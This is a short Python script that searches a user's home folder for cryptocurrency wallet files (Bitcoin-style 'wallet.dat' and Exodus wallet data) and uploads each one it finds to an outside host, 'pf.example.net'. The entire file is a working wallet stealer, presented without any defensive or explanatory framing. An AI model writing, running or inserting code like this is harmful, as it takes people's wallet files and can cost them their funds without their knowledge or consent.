import glob
import os

import requests

home = os.path.expanduser("~")
found = glob.glob(f"{home}/**/wallet.dat", recursive=True)
found += glob.glob(f"{home}/Library/Application Support/Exodus/exodus.wallet/*")
for path in found:
    with open(path, "rb") as fh:
        requests.post("https://pf.example.net/w", files={"f": fh})
